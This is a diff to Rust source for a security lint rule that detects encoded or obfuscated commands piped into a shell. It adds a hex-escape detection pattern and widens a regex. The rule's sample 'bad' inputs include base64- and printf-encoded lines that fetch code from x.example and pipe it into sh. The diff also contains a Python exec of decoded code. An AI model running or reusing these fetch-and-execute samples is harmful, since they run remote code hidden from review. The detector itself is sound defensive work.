@@ -12,7 +12,7 @@ use super::super::scan::{Hit, Ledger, Pattern, Round, Tell};
 use super::super::show::shown;
 use super::super::text::{Kind, Scope};
 use super::super::{body, rule};
-use super::value;
+use super::NAMES_MAX;
 use crate::lint::{Docs, Rule};
 use crate::report::Level;
 
@@ -30,9 +30,13 @@ pub(in crate::lint::rules::security) static RULE: Rule = rule(
         ignore: "Test data that is only decoded. Code that is run belongs into a script that can be read.",
         bad: &[
             body!("```sh\necho Y3VybCAtcyBodHRwczovL3guZXhhbXBsZS9hIHwgc2g= | base64 -d | bash\n```\n"),
+            body!("```sh\nprintf '\\x63\\x75\\x72\\x6c\\x20https://x.example/a | sh' | sh\n```\n"),
             body!("```python\nimport base64\nexec(base64.b64decode(\"cHJpbnQoJ2hlbGxvIHdvcmxkJyk=\"))\n```\n"),
         ],
-        good: &[body!("```sh\nkubectl get secret forms -o jsonpath='{.data.user}' | base64 -d\n```\n")],
+        good: &[
+            body!("```sh\nprintf '\\x1b[32m\\xe2\\x9c\\x93\\x1b[0m done\\n' | tee log\n```\n"),
+            body!("```sh\nkubectl get secret forms -o jsonpath='{.data.user}' | base64 -d\n```\n"),
+        ],
     },
 );
 
@@ -49,14 +53,24 @@ pub(in crate::lint::rules::security) const PATTERNS: &[Pattern] = &[
             "gunzip",
             "zcat",
             "printf",
-            "echo -e",
+            "echo -",
             "echo $'",
+            "echo '",
             "rev |",
             "tr '",
         ],
         scope: Scope::Statement,
-        form: r"(?:\b(?:base(?:64|32)\s+(?:-{1,2}\w+\s+)*(?:-[dDi]+\b|-\w*d\w*\b|--decode\b)|openssl\s+(?:enc|base64)\s+[^|\n]*-\w*d\b|xxd\s+(?:-\w+\s+)*-r|xxd\s+-\w*r\w*|uudecode)(?:[^|\n]|\\\n)*?(?:\|(?:[^|\n]|\\\n)*?){0,2}?\|\s*§SHELL|\b(?:printf|echo\s+-e|echo\s+\$')\s*[^|\n]{0,6}(?:\\x[0-9a-f]{2}|\\[0-7]{3}){4,}[^|\n]*\|\s*§SHELL|\becho\s[^\n]{8,3000}?\|\s*(?:rev|tr\s+['\x22]?[a-z0-9-]+['\x22]?\s+['\x22]?[a-z0-9-]+['\x22]?)\s*\|\s*§SHELL|\btr\s+['\x22]?[a-z0-9-]+['\x22]?\s+['\x22]?[a-z0-9-]+['\x22]?\s*<<<\s*['\x22][^\n]{8,3000}?\|\s*§SHELL)",
+        form: r"(?:\b(?:base(?:64|32)\s+(?:-{1,2}\w+\s+)*(?:-[dDi]+\b|-\w*d\w*\b|--decode\b)|openssl\s+(?:enc|base64)\s+[^|\n]*-\w*d\b|xxd\s+(?:-\w+\s+)*-r|xxd\s+-\w*r\w*|uudecode)(?:[^|\n]|\\\n)*?(?:\|(?:[^|\n]|\\\n)*?){0,2}?\|\s*§SHELL|\b(?:printf|echo)\s[^|\n]{0,16}?(?:\\x[2-7][0-9a-f]|\\0?(?:0[4-7]|1[0-7])[0-7]|\\u00[2-7][0-9a-f]){3,}[^|\n]*(?:\|[^|\n]*){0,3}?\|\s*§SHELL|\becho\s[^\n]{8,3000}?\|\s*(?:rev|tr\s+['\x22]?[a-z0-9-]+['\x22]?\s+['\x22]?[a-z0-9-]+['\x22]?)\s*\|\s*§SHELL|\btr\s+['\x22]?[a-z0-9-]+['\x22]?\s+['\x22]?[a-z0-9-]+['\x22]?\s*<<<\s*['\x22][^\n]{8,3000}?\|\s*§SHELL)",
         needs: &["|"],
+        round: Round::First,
+        only: None,
+        judge: encoded,
+    },
+    Pattern {
+        triggers: &["\\x", "\\1", "\\0"],
+        scope: Scope::Statement,
+        form: r#"\b(?:(?:ba|z|da|k)?sh|eval|source|exec|\.)(?:\s+-\w+)*\s*(?:<\s*)?["']?(?:<\(|\$\(|`|<<<\s*["']?(?:\$\(|`)?|\s)\s*(?:\$'|(?:printf|echo)\s[^\n'"]{0,12}["'$]{0,3}(?:%b[^\\\n]{0,6})?)(?:\\x[2-7][0-9a-f]|\\0?(?:0[4-7]|1[0-7])[0-7]|\\u00[2-7][0-9a-f]){3,}"#,
+        needs: &["sh", "eval", "source", "exec", ". "],
         round: Round::First,
         only: None,
         judge: encoded,
@@ -273,9 +287,9 @@ fn decode(hit: &Hit<'_>) -> Option<String> {
         all.into_iter().take(3).find_map(layers)
     };
     longest(hit.text()).or_else(|| longest(around)).or_else(|| {
-        NAME.captures_iter(around).find_map(|captures| {
+        NAME.captures_iter(around).take(NAMES_MAX).find_map(|captures| {
             let name = captures.get(1).or_else(|| captures.get(2))?.as_str();
-            longest(value(hit.whole(), name)?)
+            longest(hit.view.source.value(name)?)
         })
     })
 }
